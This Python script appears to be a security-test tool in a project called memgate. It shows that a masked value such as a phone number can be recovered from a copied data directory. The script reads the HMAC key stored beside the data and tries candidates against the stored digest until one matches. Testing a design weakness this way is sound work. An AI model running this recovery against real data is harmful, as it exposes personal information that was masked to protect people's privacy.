"""Recover a masked value from a copy of an embedded data dir by its keyed digest (attack13).

The journal keeps each turn's text with sensitive spans masked (``[PHONE]``) and a keyed
digest (HMAC-SHA256) of the raw turn; the embedded index's turn ledger keeps the same
digest. On the embedded default the key is ``<data_dir>/hmac.key``, in the same folder,
so whoever copies the data dir fills the placeholder with candidates until the digest
matches: the masked text gives everything but the masked span.

Usage: python tools/attack/guess_masked.py DATA_DIR TENANT TURN_ID "REDACTED TEXT" \
       PLACEHOLDER FORMAT N
e.g. ... acme t1 "Call me on [PHONE] tomorrow." "[PHONE]" "+1 415 555 {:04d}" 10000
(the redacted text as `memgate audit --sql "SELECT redacted_text FROM memgate.journal"`
prints it). Prints the value when a candidate matches; exit 1 when one does.
"""

from __future__ import annotations

import sqlite3
import sys
import time
from pathlib import Path

from memgate.core.events import content_hmac


def main() -> int:
    data, tenant, turn_id, redacted, placeholder, fmt, n = sys.argv[1:8]
    key = (Path(data) / "hmac.key").read_bytes()
    conn = sqlite3.connect(f"file:{Path(data) / 'retrieval.sqlite3'}?mode=ro", uri=True)
    row = conn.execute(
        "SELECT content_hmac FROM turns WHERE tenant_id = ? AND turn_id = ?", (tenant, turn_id)
    ).fetchone()
    if row is None:
        print("no such turn in the ledger")
        return 0
    t0 = time.perf_counter()
    for i in range(int(n)):
        value = fmt.format(i)
        if content_hmac(key, redacted.replace(placeholder, value)) == row[0]:
            print(f"masked value recovered: {value!r} after {i + 1} guesses, "
                  f"{time.perf_counter() - t0:.2f}s")  # fmt: skip
            return 1
    print(f"not found in {n} guesses")
    return 0


if __name__ == "__main__":
    sys.exit(main())
